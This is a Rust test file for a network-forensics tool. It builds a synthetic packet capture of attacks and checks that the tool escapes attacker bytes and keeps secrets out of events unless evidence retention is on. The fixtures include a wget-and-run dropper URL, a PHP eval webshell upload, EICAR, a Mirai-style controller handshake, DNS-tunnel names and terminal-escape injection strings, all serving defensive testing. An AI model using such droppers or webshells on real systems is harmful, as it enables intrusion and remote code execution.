//! `--keep-evidence`, what events say without it, and that nothing an attacker sends is seen unescaped.

mod support {
    pub mod program;
    pub mod records;
    pub mod talk;
}

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use serde_json::Value;
use support::program::wherefrom;
use support::records::records;
use support::talk::Talks;

/// 2026-05-01T00:00:00Z, in nanoseconds.
const START_NS: u64 = 1_777_593_600_000_000_000;
const HOME: &str = "202.112.10.0/24";
const HOST: ([u8; 4], u16) = ([202, 112, 10, 5], 40_000);
const SITE: ([u8; 4], u16) = ([202, 112, 10, 7], 80);
/// In the Netherlands, South Korea and Vietnam.
const DUTCH: ([u8; 4], u16) = ([145, 100, 8, 27], 80);
const KOREAN: ([u8; 4], u16) = ([147, 46, 10, 26], 50_000);
const VIETNAMESE: ([u8; 4], u16) = ([113, 160, 4, 25], 23);
const RESOLVER: ([u8; 4], u16) = ([145, 100, 8, 53], 53);
/// The window's title, the screen, a bell, a C1 control, right-to-left, a line separator, a tag, and bytes that are no UTF-8.
const NASTY: &[u8] = b"\x1b]0;owned\x07\x1b[2J\x08\x7f\xc2\x9b31m\xe2\x80\xae\xe2\x80\xa8\xe2\x81\xa6<script>\xff\xfe";
/// What nobody but its sender should read.
const SECRET: &str = "hunter2hunter2";
const EICAR: &str = concat!(r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");

fn with(before: &str, middle: &[u8], after: &str) -> Vec<u8> {
    [before.as_bytes(), middle, after.as_bytes()].concat()
}

fn message(head: &[u8], body: &[u8]) -> Vec<u8> {
    [head, format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes(), body].concat()
}

/// A question for a name of these labels.
fn question(labels: &[&[u8]]) -> Vec<u8> {
    let mut bytes = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        bytes.push(label.len() as u8);
        bytes.extend(*label);
    }
    bytes.extend([0, 0, 1, 0, 1]);
    bytes
}

/// The answer to a question, with one address.
fn answer_of(question: &[u8]) -> Vec<u8> {
    let mut bytes = question.to_vec();
    (bytes[2], bytes[3], bytes[7]) = (0x81, 0x80, 1);
    bytes.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 7]);
    bytes
}

/// A ClientHello that names a server.
fn hello(server: &[u8]) -> Vec<u8> {
    let len = |bytes: usize| (bytes as u16).to_be_bytes();
    let name = [&[0][..], &len(server.len()), server].concat();
    let list = [&len(name.len())[..], &name].concat();
    let extension = [&[0, 0][..], &len(list.len()), &list].concat();
    let body = [&[3, 3][..], &[7; 32], &[0, 0, 2, 0x13, 1, 1, 0], &len(extension.len()), &extension].concat();
    let handshake = [&[1, 0][..], &len(body.len()), &body].concat();
    [&[22, 3, 1][..], &len(handshake.len()), &handshake].concat()
}

/// Of each kind of issue an attack whose names are as nasty as they can be.
fn capture(path: &Path) {
    let mut talks = Talks::create(path, START_NS);
    // Malware, by its content: host, path and file name.
    let get = [&with("GET /", NASTY, "")[..], format!("/f.com?token={SECRET} HTTP/1.1\r\nHost: ").as_bytes(), NASTY, b"\r\n\r\n"].concat();
    let head = with("HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename=\"", NASTY, "\"\r\nContent-Type: ");
    let answer = message(&[&head[..], NASTY, b"\r\n"].concat(), EICAR.as_bytes());
    talks.connection(HOST, DUTCH, &[(true, &get), (false, &answer)], 0);
    let plain = format!("GET /plain.com?token={SECRET} HTTP/1.1\r\nHost: files.example\r\n\r\n");
    talks.connection(
        ([202, 112, 10, 6], 40_000),
        DUTCH,
        &[(true, plain.as_bytes()), (false, &message(b"HTTP/1.1 200 OK\r\n", EICAR.as_bytes()))],
        0,
    );
    // A dropper.
    let command = [b"GET /shell?cd+/tmp;wget+http://113.160.4.25/a", NASTY, b";sh+a HTTP/1.1\r\nHost: x\r\nCookie: s="].concat();
    let command = [&command[..], SECRET.as_bytes(), b"\r\n\r\n"].concat();
    talks.connection(KOREAN, SITE, &[(true, &command), (false, &message(b"HTTP/1.1 200 OK\r\n", b"ok"))], 0);
    // A webshell, put there under a nasty name and used.
    let boundary = "xyzxyz";
    let form = [
        format!("--{boundary}\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n{SECRET}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"").as_bytes(),
        NASTY,
        b".php\"\r\nContent-Type: text/plain\r\n\r\n<?php eval($_POST['k']); ?>\x1b[31m\r\n--xyzxyz--\r\n",
    ]
    .concat();
    let post = with(
        "POST /up/",
        NASTY,
        &format!("/u.php?session={SECRET} HTTP/1.1\r\nHost: site.example\r\nContent-Type: multipart/form-data; boundary={boundary}\r\n"),
    );
    talks.connection(KOREAN, SITE, &[(true, &message(&post, &form)), (false, &message(b"HTTP/1.1 200 OK\r\n", b"taken"))], 0);
    // A controller, by its protocol; and what names a listed name with more in it.
    let mirai: [(bool, &[u8]); 5] = [(true, b"\0\0\0\x01\x04mips"), (true, b"\0\0"), (false, b"\0\0"), (true, b"\0\0"), (false, b"\0\0")];
    talks.connection(HOST, VIETNAMESE, &mirai, 20_000_000_000);
    for number in 0..110_u8 {
        let label = [&[b'a'; 40][..], &NASTY[..20], &[b'0' + number / 10, b'0' + number % 10]].concat();
        for domain in [&b"tunnel"[..], b"evil"] {
            let labels: [&[u8]; 3] = [&label, domain, b"example"];
            talks.datagram(HOST, RESOLVER, &question(&labels));
            talks.datagram(RESOLVER, HOST, &answer_of(&question(&labels)));
        }
    }
    talks.connection(HOST, DUTCH, &[(true, &hello(&[NASTY, b".evil.example"].concat())), (false, b"\x15\x03\x03\0\x02\x02\x28")], 0);
    talks.finish();
}

struct Run {
    folder: tempfile::TempDir,
    records: Vec<Value>,
    /// Everything that was said and written, by where.
    said: Vec<(String, Vec<u8>)>,
}

fn run(more: &[&str]) -> Run {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("talks.pcap");
    capture(&path);
    let list = folder.path().join("names.txt");
    fs::write(&list, "evil.example\n").unwrap();
    let text = |path: &Path| path.to_str().unwrap().to_string();
    let output = folder.path().join("out");
    let list = text(&list);
    let common: Vec<String> = ["--home", HOME, "--indicators", &list].iter().chain(more).map(|text| (*text).into()).collect();
    let arguments = |command: &str, rest: &[&str]| -> Vec<String> {
        [command].into_iter().map(String::from).chain(common.clone()).chain(rest.iter().map(|text| (*text).into())).collect()
    };
    let json = wherefrom(arguments("read", &["--json", &text(&path)]));
    assert_eq!(json.status.code(), Some(0), "{}", String::from_utf8_lossy(&json.stderr));
    let records = records(&json.stdout);
    let mut said = vec![("json".into(), json.stdout), ("stderr".into(), json.stderr)];
    // With a folder for records, standard output shows what a person would read.
    let person = wherefrom(arguments("read", &["--output", &text(&output), &text(&path)]));
    said.push(("terminal".into(), person.stdout));
    for entry in fs::read_dir(&output).unwrap() {
        let entry = entry.unwrap();
        said.push((text(&entry.path()), fs::read(entry.path()).unwrap()));
    }
    // One event of each kind is enough: every explanation is a replay.
    let events = records.iter().filter(|record| record["record"] == "event");
    let ids: BTreeMap<&str, &str> =
        events.map(|record| (record["event"]["action"].as_str().unwrap(), record["event"]["id"].as_str().unwrap())).collect();
    for id in ids.into_values() {
        let told = wherefrom(arguments("explain", &[id, &text(&path)]));
        said.push((format!("explain {id}"), told.stdout));
        said.push((format!("explain {id}, stderr"), told.stderr));
    }
    Run { folder, records, said }
}

fn event<'a>(run: &'a Run, kind: &str) -> &'a Value {
    let found = run.records.iter().find(|record| record["event"]["action"] == kind);
    found.unwrap_or_else(|| {
        panic!("no {kind}; there are {:?}", run.records.iter().map(|record| record["event"]["action"].clone()).collect::<Vec<_>>())
    })
}

/// Whether a text, as a program reads it, has a character that a terminal, a log or a page would obey.
fn obeyed(text: &str) -> bool {
    let unseen =
        |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fffd}');
    text.chars().any(|c| c.is_control() || unseen(c))
}

fn strings(value: &Value, into: &mut Vec<String>) {
    match value {
        Value::String(text) => into.push(text.clone()),
        Value::Array(values) => values.iter().for_each(|value| strings(value, into)),
        Value::Object(fields) => fields.iter().for_each(|(name, value)| {
            into.push(name.clone());
            strings(value, into);
        }),
        _ => {}
    }
}

#[test]
fn nothing_that_an_attacker_sends_is_seen_unescaped() {
    for more in [&[][..], &["--keep-evidence"]] {
        let run = run(more);
        for kind in ["malware", "malware_attempt", "webshell", "c2", "c2_suspect"] {
            event(&run, kind);
        }
        for (place, bytes) in &run.said {
            let text = String::from_utf8(bytes.clone()).unwrap_or_else(|_| panic!("{place} is no UTF-8"));
            let bad: Vec<&str> = text.lines().filter(|line| obeyed(&line.replace('\t', " "))).collect();
            assert!(bad.is_empty(), "{place}: {bad:?}");
        }
        // Once a program has taken JSON's own escapes away, too.
        let mut texts = Vec::new();
        run.records.iter().for_each(|record| strings(record, &mut texts));
        assert!(texts.iter().any(|text| text.contains("owned")), "what was sent is there, escaped");
        let bad: Vec<&String> = texts.iter().filter(|text| obeyed(text)).collect();
        assert!(bad.is_empty(), "{bad:?}");
        drop(run.folder);
    }
}

#[test]
fn without_the_flag_events_hold_nothing_private() {
    let run = run(&[]);
    for (place, bytes) in &run.said {
        let found = bytes.windows(SECRET.len()).any(|window| window == SECRET.as_bytes());
        assert!(!found, "{place} holds what was private:\n{}", String::from_utf8_lossy(bytes));
        let said = String::from_utf8_lossy(bytes);
        for body in ["EICAR-STANDARD", "eval(", "\"evidence\""] {
            assert!(!said.contains(body), "{place} holds payload: {body}");
        }
    }
    let urls: Vec<&str> = run
        .records
        .iter()
        .filter(|record| record["event"]["action"] == "malware")
        .filter_map(|record| record["url"]["original"].as_str())
        .collect();
    assert!(urls.contains(&"http://files.example/plain.com"), "{urls:?}");
}

#[test]
fn with_the_flag_they_show_what_identified_the_attack_and_are_the_same_otherwise() {
    let (without, with) = (run(&[]), run(&["--keep-evidence"]));
    let evidence = |kind: &str, side: &str| event(&with, kind)["wherefrom"]["evidence"][side].as_str().unwrap_or_default().to_string();
    assert_eq!(evidence("malware", "server"), EICAR.as_bytes().escape_ascii().to_string());
    assert!(evidence("malware_attempt", "client").contains("cd+/tmp;wget+http://113.160.4.25/a\\x1b]0;owned"));
    assert_eq!(evidence("webshell", "client"), "<?php eval($_POST[\\'k\\']); ?>\\x1b[31m");
    assert_eq!(evidence("webshell", "server"), "taken");
    assert!(evidence("c2", "client").starts_with("\\x00\\x00\\x00\\x01\\x04mips"));
    assert_eq!(evidence("c2", "server").get(..8), Some("\\x00\\x00"));
    let stripped = with.records.iter().cloned().map(|mut record| {
        if let Some(own) = record.get_mut("wherefrom").and_then(Value::as_object_mut) {
            own.remove("evidence");
        }
        record
    });
    assert_eq!(stripped.collect::<Vec<_>>(), without.records);
}
